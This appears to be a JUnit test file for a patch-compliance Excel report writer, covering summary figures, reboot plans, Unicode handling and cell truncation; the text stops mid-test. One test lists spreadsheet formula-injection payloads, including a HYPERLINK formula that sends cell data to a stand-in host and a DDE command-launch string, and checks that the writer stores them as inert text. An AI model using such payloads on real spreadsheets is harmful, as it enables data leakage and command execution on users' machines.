package io.patchproof.report;

import static io.patchproof.testsupport.FindingBuilders.aFinding;
import static io.patchproof.testsupport.FindingBuilders.aMissingFinding;
import static io.patchproof.testsupport.FindingBuilders.aNotInEffectFinding;
import static io.patchproof.testsupport.ReportDataBuilder.aReport;
import static io.patchproof.testsupport.ReportRowBuilders.aHostSummary;
import static io.patchproof.testsupport.ReportRowBuilders.anUpdateSummary;
import static io.patchproof.testsupport.ReportRowBuilders.figures;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.patchproof.reconcile.Finding;
import io.patchproof.reconcile.HostsFullyPatched;
import io.patchproof.reconcile.Metrics;
import io.patchproof.reconcile.QualityFlag;
import io.patchproof.reconcile.Severity;
import io.patchproof.reconcile.Verdict;
import io.patchproof.testsupport.ReportDataBuilder;
import io.patchproof.testsupport.TestWorkbook;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.nio.file.Path;
import org.junit.jupiter.api.io.TempDir;
import java.io.IOException;
import java.io.InputStream;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TimeZone;
import java.util.function.Consumer;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.util.PaneInformation;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

class MonthlyWorkbookWriterTests {

    private static final String DATE_TIME = "yyyy-mm-dd hh:mm:ss";
    private static ReportTemplate template;
    private static TestWorkbook templateBook;

    @BeforeAll
    static void loadTemplate() throws IOException {
        template = ReportTemplate.monthlyFromClasspath();
        try (InputStream in = MonthlyWorkbookWriterTests.class.getClassLoader().getResourceAsStream(ReportTemplate.MONTHLY_LOCATION)) {
            templateBook = TestWorkbook.open(in.readAllBytes());
        }
    }

    private static byte[] bytes(MonthlyWorkbookWriter writer, ReportData data) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        writer.write(data, template, out);
        return out.toByteArray();
    }

    private static TestWorkbook write(ReportData data) throws IOException {
        return TestWorkbook.open(bytes(new MonthlyWorkbookWriter(), data));
    }

    /** Where the template put a placeholder: the written value must be in that very cell. */
    private static String at(String sheet, String placeholder) {
        String address = templateBook.addressOf(sheet, placeholder);
        assertThat(address).as("template cell holding %s on %s", placeholder, sheet).isNotNull();
        return address;
    }

    @Test
    void summaryShowsReportedAndEffectiveComplianceSideBySide() throws IOException {
        ReportData data = aReport().build();
        Metrics m = data.metrics();
        try (TestWorkbook wb = write(data)) {
            wb.cell("Summary", at("Summary", "${reportedPct}")).hasNumber(m.overall().reportedPct() / 100).hasFormat("0.0%");
            wb.cell("Summary", at("Summary", "${effectivePct}")).hasNumber(m.overall().effectivePct() / 100).hasFormat("0.0%");
            wb.cell("Summary", at("Summary", "${gap}")).hasNumber(m.overall().gapPoints());
            wb.cell("Summary", at("Summary", "${reportedInstalled}")).hasNumber(m.overall().reportedInstalled());
            wb.cell("Summary", at("Summary", "${inEffect}")).hasNumber(m.overall().inEffect());
            wb.cell("Summary", at("Summary", "${applicable}")).hasNumber(m.overall().applicable());
            assertThat(m.overall().gapPoints()).as("the fixture has a gap worth showing").isGreaterThan(20);
        }
    }

    @Test
    void summaryShowsHostsFullyPatchedReportedAndEffective() throws IOException {
        HostsFullyPatched servers = new HostsFullyPatched(450, 430, 12, 15, 500);
        HostsFullyPatched workstations = new HostsFullyPatched(8000, 7600, 6100, 6150, 9000);
        HostsFullyPatched all = new HostsFullyPatched(8450, 8030, 6112, 6165, 9500);
        ReportData data = aReport().withFullyPatched(servers, workstations, all).build();
        try (TestWorkbook wb = write(data)) {
            wb.cell("Summary", at("Summary", "${serversFullyPatchedReported}")).hasNumber(servers.reportedPct() / 100);
            wb.cell("Summary", at("Summary", "${serversFullyPatchedEffective}")).hasNumber(servers.effectivePct() / 100);
            wb.cell("Summary", at("Summary", "${serversFullyPatchedGap}")).hasNumber(servers.reportedPct() - servers.effectivePct());
            wb.cell("Summary", at("Summary", "${serversFullyPatchedReportedCount}")).hasNumber(430);
            wb.cell("Summary", at("Summary", "${serversFullyPatchedEffectiveCount}")).hasNumber(12);
            wb.cell("Summary", at("Summary", "${workstationsFullyPatchedReported}")).hasNumber(workstations.reportedPct() / 100);
            wb.cell("Summary", at("Summary", "${workstationsFullyPatchedEffective}")).hasNumber(workstations.effectivePct() / 100);
            wb.cell("Summary", at("Summary", "${allFullyPatchedReported}")).hasNumber(all.reportedPct() / 100);
            wb.cell("Summary", at("Summary", "${allFullyPatchedEffective}")).hasNumber(all.effectivePct() / 100);
            // below the expanded regions: found by their labels
            int servers2 = Integer.parseInt(wb.addressOf("Summary", "Servers fully patched for critical updates").substring(1));
            wb.cell("Summary", "C" + servers2).hasNumber(servers.effectiveWithExceptionsPct() / 100);
            int pairs = Integer.parseInt(wb.addressOf("Summary", "Applicable host updates").substring(1));
            wb.cell("Summary", "B" + pairs).hasNumber(data.metrics().overall().reportedWithExceptionsPct() / 100);
            wb.cell("Summary", "C" + pairs).hasNumber(data.metrics().overall().effectiveWithExceptionsPct() / 100);
        }
    }

    @Test
    void summaryHeaderNamesTheRunTheSourceAndWhenItWasRead() throws IOException {
        ReportData data = aReport().build();
        try (TestWorkbook wb = write(data)) {
            wb.cell("Summary", at("Summary", "${asOf}")).hasDateTime(LocalDate.parse("2008-11-30").atStartOfDay()).hasFormat("yyyy-mm-dd");
            wb.cell("Summary", at("Summary", "${scope}")).hasText("all systems");
            wb.cell("Summary", at("Summary", "${source}")).hasText("CM01 / CM_PS1, site PS1");
            wb.cell("Summary", at("Summary", "${readAt}")).hasDateTime(LocalDateTime.parse("2008-12-01T07:15:30")).hasFormat(DATE_TIME);
            wb.cell("Summary", at("Summary", "${schema}")).hasText("configmgr (auto: v_UpdateComplianceStatus present)");
            wb.cell("Data quality", at("Data quality", "${run}")).hasText("job instance 12, execution 15, first run");
            assertThat(templateBook.addressOf("Summary", "${run}")).as("internal ids stay off the Summary").isNull();
            // below the expanded regions: found by their labels
            wb.cellNextTo("Summary", "Newest inventory (client local time)").hasDateTime(LocalDateTime.parse("2008-11-29T23:10:00"));
            wb.cellNextTo("Summary", "Newest state message (UTC)").hasDateTime(LocalDateTime.parse("2008-11-30T06:01:02")).hasFormat(DATE_TIME);
            wb.cellNextTo("Summary", "Days from newest inventory to as-of").hasNumber(1);
            wb.cell("Summary", "A1").hasText("patchproof");
        }
    }

    @Test
    void demoOutputSaysDemoOnItsSummaryAndARealReportNever() throws IOException {
        try (TestWorkbook wb = write(aReport().withRun(io.patchproof.testsupport.ReportRunBuilder.aRun().demo().build()).build())) {
            wb.cell("Summary", at("Summary", "${profile}")).hasText("monthly \u2014 DEMO: generated demo data, not a real site");
            wb.cell("Summary", at("Summary", "${source}")).hasText("DEMO site database (generated): CM01 / CM_PS1, site PS1");
        }
        try (TestWorkbook wb = write(aReport().build())) {
            for (java.util.List<Object> row : wb.rows("Summary")) {
                assertThat(row).as("a real report's Summary").noneMatch(v -> v != null && v.toString().contains("DEMO"));
            }
        }
    }

    @Test
    void summaryCountsEveryVerdictAndShowsThatTheCountsReconcile() throws IOException {
        ReportData data = aReport()
                .with(aNotInEffectFinding().build(), aNotInEffectFinding().host("SRV-02").build(), aMissingFinding().build())
                .withGenerated(Verdict.IN_EFFECT, 7, i -> FindingBuildersSupport.inEffect(i))
                .build();
        try (TestWorkbook wb = write(data)) {
            wb.cell("Summary", at("Summary", "${verdict.NOT_IN_EFFECT}")).hasNumber(2);
            wb.cell("Summary", at("Summary", "${verdict.MISSING}")).hasNumber(1);
            wb.cell("Summary", at("Summary", "${verdict.IN_EFFECT}")).hasNumber(7);
            wb.cell("Summary", at("Summary", "${verdict.OUT_OF_SCOPE}")).hasNumber(200);
            wb.cellNextTo("Summary", "Every row read accounted for").hasText("yes");
            wb.cellNextTo("Data quality", "Compliance rows read").hasNumber(210);
            wb.cellNextTo("Data quality", "Out of scope (by reason below)").hasNumber(200);
            wb.cellNextTo("Data quality", "In scope: all verdicts").hasNumber(10);
            wb.cellNextTo("Data quality", "Rows read = out of scope + in scope").hasText("yes");
        }
    }

    @Test
    void summarySaysNoWhenRowsReadDoNotAddUp() throws IOException {
        ReportData data = aReport().with(aNotInEffectFinding().build()).withRowsRead(250).build();
        try (TestWorkbook wb = write(data)) {
            assertThat(wb.cellNextTo("Data quality", "Rows read = out of scope + in scope").text())
                    .startsWith("NO: rows read = out of scope + \u03a3 verdicts in scope: 250 \u2260 201");
        }
    }

    @Test
    void summaryRepeatsTheSeverityAndCollectionRowsAndKeepsTheSectionsBelowInPlace() throws IOException {
        ReportData data = aReport().withCollection("Zeta Servers", figures(1, 2, 0, 0, 0, 0, 0)).build();
        Metrics m = data.metrics();
        try (TestWorkbook wb = write(data)) {
            String critical = wb.addressOf("Summary", "Critical");
            String important = wb.addressOf("Summary", "Important");
            assertThat(critical).as("severity rows").isNotNull();
            int criticalRow = Integer.parseInt(critical.substring(1));
            assertThat(important).isEqualTo("A" + (criticalRow + 1));
            wb.cell("Summary", "B" + criticalRow).hasNumber(m.bySeverity().get(Severity.CRITICAL).applicable());
            wb.cell("Summary", "C" + criticalRow).hasNumber(m.bySeverity().get(Severity.CRITICAL).reportedPct() / 100);
            wb.cell("Summary", "D" + criticalRow).hasNumber(m.bySeverity().get(Severity.CRITICAL).effectivePct() / 100);

            String first = wb.addressOf("Summary", "All Workstations");
            int row = Integer.parseInt(first.substring(1));
            wb.cell("Summary", "A" + (row + 1)).hasText("Servers - Patch Group A");
            wb.cell("Summary", "A" + (row + 2)).hasText("Zeta Servers");
            wb.cell("Summary", "B" + (row + 2)).hasNumber(3);
            wb.cell("Summary", "F" + (row + 2)).hasNumber(2);

            String freshLabel = wb.addressOf("Summary", "Newest inventory (client local time)");
            int freshRow = Integer.parseInt(freshLabel.substring(1));
            assertThat(freshRow).isGreaterThan(row + 2);
            wb.cell("Summary", "B" + freshRow).hasDateTime(LocalDateTime.parse("2008-11-29T23:10:00"));
            assertNoPlaceholderLeft(wb);
        }
    }

    @Test
    void aRegionRowMayAlsoUseRunPlaceholdersInsideText() throws IOException {
        byte[] restyled;
        try (InputStream in = MonthlyWorkbookWriterTests.class.getClassLoader().getResourceAsStream(ReportTemplate.MONTHLY_LOCATION);
             org.apache.poi.xssf.usermodel.XSSFWorkbook wb = new org.apache.poi.xssf.usermodel.XSSFWorkbook(in)) {
            var ref = new org.apache.poi.ss.util.CellReference(at("Summary", "${collection.name}"));
            wb.getSheet("Summary").getRow(ref.getRow()).getCell(ref.getCol()).setCellValue("${collection.name} (as of ${asOf})");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            wb.write(out);
            restyled = out.toByteArray();
        }
        ReportTemplate custom = ReportTemplate.monthly(new org.springframework.core.io.ByteArrayResource(restyled, "restyled"));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new MonthlyWorkbookWriter().write(aReport().build(), custom, out);
        try (TestWorkbook wb = TestWorkbook.open(out.toByteArray())) {
            assertThat(wb.addressOf("Summary", "All Workstations (as of 2008-11-30)")).isNotNull();
            assertThat(wb.addressOf("Summary", "Servers - Patch Group A (as of 2008-11-30)")).isNotNull();
        }
    }

    @Test
    void anEmptyCollectionTableSaysNone() throws IOException {
        try (TestWorkbook wb = write(aReport().withoutCollections().build())) {
            String header = wb.addressOf("Summary", "Collection");
            int row = Integer.parseInt(header.substring(1));
            wb.cell("Summary", "A" + (row + 1)).hasText("none");
            wb.cell("Summary", "B" + (row + 1)).isBlank();
            assertNoPlaceholderLeft(wb);
        }
    }

    @Test
    void everyDataSheetStartsWithTheTemplateHeaderAndLosesItsStyleRow() throws IOException {
        try (TestWorkbook wb = write(aReport().build())) {
            assertThat(wb.sheetNames()).containsExactly("Summary", "Reboot plan", "Not in effect", "Missing", "Hosts", "Updates", "Data quality");
            for (String sheet : List.of("Reboot plan", "Not in effect", "Missing", "Hosts", "Updates")) {
                int header = sheet.equals("Reboot plan") ? PLAN_HEADER : 0;
                assertThat(wb.rows(sheet).subList(0, header + 1)).as("header of %s", sheet)
                        .isEqualTo(templateBook.rows(sheet).subList(0, header + 1));
                assertThat(wb.rows(sheet)).as("%s without data has only its header", sheet).hasSize(header + 1);
            }
            assertNoPlaceholderLeft(wb);
        }
    }

    @Test
    void aNotInEffectRowCarriesEveryFieldOfItsFinding() throws IOException {
        Finding f = aNotInEffectFinding().flagged(QualityFlag.INVENTORY_STALE, QualityFlag.CLOCK_ANOMALY).build();
        try (TestWorkbook wb = write(aReport().with(f).build())) {
            String s = "Not in effect";
            Map<String, Object> expected = new java.util.LinkedHashMap<>();
            expected.put("Host", "SRV-FILE01");
            expected.put("ResourceID", 16777220.0);
            expected.put("KB article", "KB958644");
            expected.put("Bulletin", "MS08-067");
            expected.put("Title", "Security Update for Windows Server 2003 (KB958644)");
            expected.put("Severity", "Critical");
            expected.put("Classification", "Security Updates");
            expected.put("Enforcement state", "9 Pending system restart");
            expected.put("Confidence", "high");
            expected.put("Installed (UTC)", LocalDateTime.parse("2008-10-23T18:00:00"));
            expected.put("Installed latest (UTC)", LocalDateTime.parse("2008-10-24T02:00:00"));
            expected.put("Last boot (UTC)", LocalDateTime.parse("2006-09-14T06:12:00"));
            expected.put("Inventory (UTC)", LocalDateTime.parse("2008-11-20T03:00:00"));
            expected.put("Waiting (days)", 38.0);
            expected.put("On the list (days)", 0.0);
            expected.put("Evidence", f.evidence());
            expected.put("Quality flags", "INVENTORY_STALE, CLOCK_ANOMALY");
            for (Map.Entry<String, Object> e : expected.entrySet()) {
                int column = wb.column(s, 0, e.getKey());
                TestWorkbook.TestCell cell = wb.cell(s, 1, column);
                if (e.getValue() instanceof LocalDateTime t) {
                    cell.hasDateTime(t).hasFormat(DATE_TIME);
                } else if (e.getValue() instanceof Double d) {
                    cell.hasNumber(d);
                } else {
                    cell.hasText((String) e.getValue());
                }
            }
            wb.cell(s, 1, wb.column(s, 0, "Superseded")).hasText("no");
            wb.cell(s, 1, wb.column(s, 0, "On the list since")).hasDateTime(LocalDate.parse("2008-11-30").atStartOfDay());
        }
    }

    @Test
    void dateCellsShareOneStyleAndAreUtcWallClockWhateverTheMachineZone() throws IOException {
        TimeZone saved = TimeZone.getDefault();
        try {
            TimeZone.setDefault(TimeZone.getTimeZone("Pacific/Chatham"));
            ReportData data = aReport().withGenerated(Verdict.NOT_IN_EFFECT, 50, FindingBuildersSupport::notInEffect).build();
            try (TestWorkbook wb = write(data)) {
                int column = wb.column("Not in effect", 0, "Last boot (UTC)");
                Set<Short> styles = new HashSet<>();
                for (int r = 1; r <= 50; r++) {
                    TestWorkbook.TestCell cell = wb.cell("Not in effect", r, column);
                    cell.hasDateTime(LocalDateTime.parse("2006-09-14T06:12:00"));
                    styles.add(cell.style().getIndex());
                }
                assertThat(styles).as("one shared date style for the column").hasSize(1);
            }
        } finally {
            TimeZone.setDefault(saved);
        }
    }

    @Test
    void unknownTimesAndNumbersAreBlankCells() throws IOException {
        Finding f = aNotInEffectFinding().lastBoot(null).inventory(null).installedBetween(null, null).exposureDays(null).build();
        try (TestWorkbook wb = write(aReport().with(f).build())) {
            for (String header : List.of("Last boot (UTC)", "Inventory (UTC)", "Installed (UTC)", "Installed latest (UTC)", "Waiting (days)")) {
                wb.cell("Not in effect", 1, wb.column("Not in effect", 0, header)).isBlank();
            }
        }
    }

    @Test
    void theMissingSheetListsMissingFindingsAndNothingElse() throws IOException {
        ReportData data = aReport()
                .with(aMissingFinding().host("WS-0001").workstation().build(), aNotInEffectFinding().build(),
                        aMissingFinding().host("WS-0002").build())
                .build();
        try (TestWorkbook wb = write(data)) {
            List<List<Object>> rows = wb.rows("Missing");
            assertThat(rows).hasSize(3);
            assertThat(rows.get(1).get(0)).isEqualTo("WS-0001");
            assertThat(rows.get(2).get(0)).isEqualTo("WS-0002");
            assertThat(wb.rows("Missing").get(0)).as("a missing update was never installed").doesNotContain("Installed (UTC)");
            assertThat(wb.rows("Not in effect")).hasSize(2);
        }
    }

    /** The Reboot plan's header row: a note on the risk formula is above it. */
    private static final int PLAN_HEADER = 1;

    @Test
    void theRebootPlanListsHostsWithInstallsWaitingForARestartRiskiestFirst() throws IOException {
        ReportData data = aReport()
                .withHosts(
                        aHostSummary().resourceId(1).name("SRV-A").risk(100, 10L).figures(figures(10, 2, 0, 1, 0, 0, 0)).build(),
                        aHostSummary().resourceId(2).name("SRV-B").risk(500, 50L).criticalNotInEffect(1).figures(figures(10, 1, 0, 0, 3, 0, 0)).build(),
                        aHostSummary().resourceId(3).name("SRV-C").risk(0, null).figures(figures(10, 0, 0, 0, 0, 0, 0)).build())
                .with(aNotInEffectFinding().resourceId(2).host("SRV-B").build(),
                        aNotInEffectFinding().resourceId(1).host("SRV-A").severity(Severity.IMPORTANT).build())
                .build();
        try (TestWorkbook wb = write(data)) {
            String s = "Reboot plan";
            int h = PLAN_HEADER;
            List<List<Object>> rows = wb.rows(s);
            assertThat(rows).as("SRV-C has nothing to reboot for").hasSize(h + 3);
            assertThat((String) rows.get(0).get(0)).as("the risk formula is stated on the sheet").contains("Risk = sum")
                    .contains("severity unknown 5");
            wb.cell(s, h + 1, wb.column(s, h, "#")).hasNumber(1);
            wb.cell(s, h + 1, wb.column(s, h, "Host")).hasText("SRV-B");
            wb.cell(s, h + 1, wb.column(s, h, "Risk")).hasNumber(500);
            wb.cell(s, h + 1, wb.column(s, h, "Updates waiting for restart")).hasNumber(1);
            wb.cell(s, h + 1, wb.column(s, h, "of them critical")).hasNumber(1);
            wb.cell(s, h + 1, wb.column(s, h, "Failed installs")).hasNumber(3);
            wb.cell(s, h + 1, wb.column(s, h, "Role")).hasText("Server");
            wb.cell(s, h + 1, wb.column(s, h, "Maintenance window")).hasText(RebootPlan.NO_WINDOW);
            wb.cell(s, h + 1, wb.column(s, h, "Last boot (UTC)")).hasDateTime(LocalDateTime.parse("2006-09-14T06:12:00"));
            wb.cell(s, h + 1, wb.column(s, h, "On the list since")).hasDateTime(LocalDate.parse("2008-11-30").atStartOfDay());
            wb.cell(s, h + 2, wb.column(s, h, "#")).hasNumber(2);
            wb.cell(s, h + 2, wb.column(s, h, "Host")).hasText("SRV-A");
            wb.cell(s, h + 2, wb.column(s, h, "of them critical")).hasNumber(0);
            wb.cell(s, h + 2, wb.column(s, h, "Longest wait (days)")).hasNumber(10);
        }
    }

    @Test
    void aHostWhoseClientReportsARestartPendingWhileUpdatesAreRequiredIsOnTheRebootPlan() throws IOException {
        // Rule 9: on a current ConfigMgr site an out-of-band install waiting for its restart is "required".
        ReportData data = aReport()
                .withHosts(
                        aHostSummary().resourceId(1).name("SRV-A").risk(100, 10L).figures(figures(10, 2, 0, 1, 0, 0, 0)).build(),
                        aHostSummary().resourceId(4).name("SRV-D").risk(0, null).clientState(4).figures(figures(10, 0, 0, 2, 0, 0, 0)).build(),
                        aHostSummary().resourceId(5).name("SRV-E").risk(0, null).clientState(2).figures(figures(10, 0, 0, 2, 0, 0, 0)).build(),
                        aHostSummary().resourceId(6).name("SRV-F").risk(0, null).clientState(1).figures(figures(10, 0, 0, 0, 0, 0, 0)).build())
                .build();
        try (TestWorkbook wb = write(data)) {
            String s = "Reboot plan";
            int h = PLAN_HEADER;
            assertThat(wb.rows(s)).as("SRV-E has only a weak flag, SRV-F nothing required").hasSize(h + 3);
            wb.cell(s, h + 1, wb.column(s, h, "Host")).hasText("SRV-A");
            wb.cell(s, h + 1, wb.column(s, h, "Why")).hasText("installed updates wait for a restart");
            wb.cell(s, h + 2, wb.column(s, h, "Host")).hasText("SRV-D");
            wb.cell(s, h + 2, wb.column(s, h, "Why")).hasText("the client flags a restart; updates still required");
            wb.cell("Summary", at("Summary", "${restartHosts}")).hasNumber(2);
            assertThat(wb.cell("Summary", at("Summary", "${restartNote}")).text())
                    .contains("1 of them are listed because the ConfigMgr client reports a restart pending");
        }
    }

    @Test
    void theHostsSheetShowsEveryHostWithItsFigures() throws IOException {
        ReportData data = aReport()
                .withHosts(aHostSummary().build(), aHostSummary().resourceId(9).name("WS-0001").workstation().uptimeDays(null).build())
                .build();
        try (TestWorkbook wb = write(data)) {
            String s = "Hosts";
            assertThat(wb.rows(s)).hasSize(3);
            var figures = data.metrics().hosts().get(0).figures();
            wb.cell(s, 1, wb.column(s, 0, "Host")).hasText("SRV-FILE01");
            wb.cell(s, 1, wb.column(s, 0, "Reported %")).hasNumber(figures.reportedPct() / 100).hasFormat("0.0%");
            wb.cell(s, 1, wb.column(s, 0, "Effective %")).hasNumber(figures.effectivePct() / 100);
            wb.cell(s, 1, wb.column(s, 0, "Applicable")).hasNumber(figures.applicable());
            wb.cell(s, 1, wb.column(s, 0, "Last boot (client local)")).hasDateTime(LocalDateTime.parse("2006-09-14T08:12:00"));
            wb.cell(s, 1, wb.column(s, 0, "UTC offset (min)")).hasNumber(120);
            wb.cell(s, 1, wb.column(s, 0, "Uptime (days)")).hasNumber(808);
            wb.cell(s, 1, wb.column(s, 0, "Maintenance window")).hasText(RebootPlan.NO_WINDOW);
            wb.cell(s, 2, wb.column(s, 0, "Role")).hasText("Workstation");
            wb.cell(s, 2, wb.column(s, 0, "Uptime (days)")).isBlank();
        }
    }

    @Test
    void theUpdatesSheetShowsEveryUpdateWithItsReleaseDate() throws IOException {
        ReportData data = aReport().withUpdates(anUpdateSummary().build(), anUpdateSummary().article("890830", 17).superseded().build()).build();
        try (TestWorkbook wb = write(data)) {
            String s = "Updates";
            assertThat(wb.rows(s)).hasSize(3);
            wb.cell(s, 1, wb.column(s, 0, "KB article")).hasText("KB958644");
            wb.cell(s, 1, wb.column(s, 0, "Released")).hasDateTime(LocalDateTime.parse("2008-10-23T00:00:00")).hasFormat("yyyy-mm-dd");
            wb.cell(s, 1, wb.column(s, 0, "Effective %")).hasNumber(data.metrics().updates().get(0).figures().effectivePct() / 100);
            wb.cell(s, 1, wb.column(s, 0, "Superseded")).hasText("no");
            wb.cell(s, 2, wb.column(s, 0, "Superseded")).hasText("yes");
            wb.cell(s, 2, wb.column(s, 0, "CI_ID")).hasNumber(17);
        }
    }

    @Test
    void theDataQualitySheetCountsFirstAndThenListsEachRecord() throws IOException {
        ReportData data = aReport().withDataQuality(
                new DataQualityEntry("No boot time", 42, "SRV-X", "LastBootUpTime0 is NULL"),
                new DataQualityEntry("Duplicate host name", null, "WS-DUP", "two ResourceIDs share the name"),
                new DataQualityEntry("No boot time", 43, "SRV-Y", "LastBootUpTime0 is NULL")).build();
        try (TestWorkbook wb = write(data)) {
            List<List<Object>> rows = wb.rows("Data quality");
            int first = rows.indexOf(List.of("Counted", "Count", "Of what")) + 1;
            assertThat(first).as("counts below the reconciliation").isGreaterThan(5);
            assertThat(rows.get(first)).containsExactly("Records by category", 1.0, "Duplicate host name");
            assertThat(rows.get(first + 1)).containsExactly("Records by category", 2.0, "No boot time");
            assertThat(rows).anySatisfy(r -> assertThat(r).containsExactly("Pairs by quality flag", 4.0, "BOOT_TIME_MISSING"));
            assertThat(rows).anySatisfy(r -> assertThat(r).containsExactly("Pairs by quality flag", 0.0, "DUPLICATE_PAIR"));
            assertThat(rows).anySatisfy(r -> assertThat(r).containsExactly("Rows out of scope by reason", 150.0, "not reboot-dependent"));
            int header = rows.indexOf(List.of("Category", "ResourceID", "Host", "Detail"));
            assertThat(header).as("entries header below the counts").isGreaterThan(first + 1 + QualityFlag.values().length);
            assertThat(rows.get(header + 1)).containsExactly("No boot time", 42.0, "SRV-X", "LastBootUpTime0 is NULL");
            assertThat(rows.get(header + 2)).containsExactly("Duplicate host name", null, "WS-DUP", "two ResourceIDs share the name");
            assertThat(rows).hasSize(header + 4);
        }
    }

    @Test
    void formulaLikeTextIsQuotePrefixedTextAndNeverAFormula() throws IOException {
        List<String> hostile = List.of("=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
                "\tcmd", "\rcalc", "\nline", "=1+1", " =1+1", "\uFF1D1+1", "-cmd|' /C calc'!A0");
        ReportDataBuilder report = aReport();
        for (int i = 0; i < hostile.size(); i++) {
            report.with(aNotInEffectFinding().seq(i).host("H" + i).title(hostile.get(i)).evidence(hostile.get(i)).build());
        }
        report.with(aNotInEffectFinding().seq(99).host("Z-PLAIN").build());
        byte[] xlsx = bytes(new MonthlyWorkbookWriter(), report.build());
        try (TestWorkbook wb = TestWorkbook.open(xlsx)) {
            String s = "Not in effect";
            int title = wb.column(s, 0, "Title");
            int evidence = wb.column(s, 0, "Evidence");
            for (int r = 1; r <= hostile.size(); r++) {
                String expected = hostile.get(r - 1);
                wb.cell(s, r, title).hasText(expected).isQuotePrefixed();
                wb.cell(s, r, evidence).hasText(expected).isQuotePrefixed();
            }
            wb.cell(s, hostile.size() + 1, title).isNotQuotePrefixed();
            for (Sheet sheet : wb.workbook()) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).as("%s!%s", sheet.getSheetName(), cell.getAddress()).isNotEqualTo(CellType.FORMULA);
                    }
                }
            }
            wb.worksheetXml().forEach((part, xml) -> assertThat(xml).as("%s has no <f> element", part).doesNotContainPattern("<f[\\s>/]"));
        }
    }

    @Test
    void quotePrefixedAndDateStylesAreSharedSoStylesDoNotGrowWithRows() throws IOException {
        int few = styleCount(20);
        int many = styleCount(3000);
        assertThat(many).isEqualTo(few);
    }

    private int styleCount(int rows) throws IOException {
        ReportData data = aReport().withGenerated(Verdict.NOT_IN_EFFECT, rows,
                i -> aNotInEffectFinding().seq(i).host("=H" + i).title(i % 2 == 0 ? "+t" : "t").build()).build();
        try (TestWorkbook wb = write(data)) {
            return wb.workbook().getNumCellStyles();
        }
    }

    @Test
    void textOverTheCellLimitIsTruncatedVisiblyAndKeepsTheHashOfTheFullText() throws IOException {
        String evidence = "E".repeat(39_990) + "0123456789";
        try (TestWorkbook wb = write(aReport().with(aNotInEffectFinding().evidence(evidence).build()).build())) {
            String text = wb.cell("Not in effect", 1, wb.column("Not in effect", 0, "Evidence")).text();
            String marker = "\u2026 [truncated, 40000 chars, sha256 " + Sha256.hex(evidence) + "]";
            assertThat(text).hasSize(32_767).endsWith(marker).startsWith("EEEE");
            assertThat(evidence).startsWith(text.substring(0, text.length() - marker.length()));
        }
    }

    @Test
    void truncationNeverSplitsASurrogatePair() throws IOException {
        String emoji = "\uD83D\uDE00".repeat(20_000);
        try (TestWorkbook wb = write(aReport().with(aNotInEffectFinding().title(emoji).build()).build())) {
            String text = wb.cell("Not in effect", 1, wb.column("Not in effect", 0, "Title")).text();
            assertThat(text.length()).isLessThanOrEqualTo(32_767);
            String head = text.substring(0, text.indexOf('\u2026'));
            assertThat(head.length() % 2).as("whole pairs only").isZero();
            assertThat(head.codePoints().allMatch(cp -> cp == 0x1F600)).isTrue();
        }
    }

    @Test
    void unicodeTextRoundTripsExactly() throws IOException {
        List<String> texts = List.of(
                "\uD835\uDD18\uD835\uDD2B\uD835\uDD26 non-BMP \uD83D\uDE00 \uD83D\uDC69\u200D\uD83D\uDCBB",
                "\u05E2\u05D3\u05DB\u05D5\u05DF \u05D0\u05D1\u05D8\u05D7\u05D4 (RTL) \u0645\u0631\u062D\u0628\u0627",
                "e\u0301 n\u0303 combining, zero\u200Bwidth, \u202Eoverride\u202C",
                "literal _x0041_ and _x005F_ stay literal",
                "tab\tinside, line\nbreak inside, \"quotes\", <xml> & ampersand");
        ReportDataBuilder report = aReport();
        for (int i = 0; i < texts.size(); i++) {
            report.with(aNotInEffectFinding().seq(i).host("\u03A3\u0395\u03A1\u0392\u0395\u03A1-" + i).title(texts.get(i)).build());
        }
        try (TestWorkbook wb = write(report.build())) {
            for (int r = 1; r <= texts.size(); r++) {
                wb.cell("Not in effect", r, wb.column("Not in effect", 0, "Title")).hasText(texts.get(r - 1));
                wb.cell("Not in effect", r, wb.column("Not in effect", 0, "Host")).hasText("\u03A3\u0395\u03A1\u0392\u0395\u03A1-" + (r - 1));
            }
        }
    }

    @Test
    void controlCharactersAndNoncharactersReadBackExactlyThroughExcelsEscape() throws IOException {
        // XML 1.0 cannot carry these; Excel stores them as _xHHHH_, which POI (and Excel) decode on reading.
        String title = "a\u0001b\u000Bc\u000Cd\u001Fe\uFFFEf\uFFFFg \u0008 _x0041_ _x005F_ __x0001_ end\u001F";
        String scope = "hosts \u0001SRV\u001F _x0041_";
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        WorkbookStats stats = new MonthlyWorkbookWriter().write(aReport()
                .withRun(io.patchproof.testsupport.ReportRunBuilder.aRun().scope(scope).build())
                .with(aNotInEffectFinding().host("\u000BHOST\uFFFF").title(title).build()).build(), template, out);
        try (TestWorkbook wb = TestWorkbook.open(out.toByteArray())) {
            // Streamed sheets (inline strings) and the Summary (shared strings) alike.
            wb.cell("Not in effect", 1, wb.column("Not in effect", 0, "Title")).hasText(title);
            wb.cell("Not in effect", 1, wb.column("Not in effect", 0, "Host")).hasText("\u000BHOST\uFFFF").isQuotePrefixed();
            wb.cell("Summary", at("Summary", "${scope}")).hasText(scope);
        }
        assertThat(stats.replacedCharacters()).as("nothing replaced: every character reads back").isZero();
    }

    @Test
    void nulAndUnpairedSurrogatesWhichNoCellCanHoldAreReplacedVisiblyAndCounted() throws IOException {
        String title = "a\u0000b\uD800c\uDC00d\u0001e";
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        WorkbookStats stats = new MonthlyWorkbookWriter().write(aReport().with(aNotInEffectFinding().title(title).build()).build(), template, out);
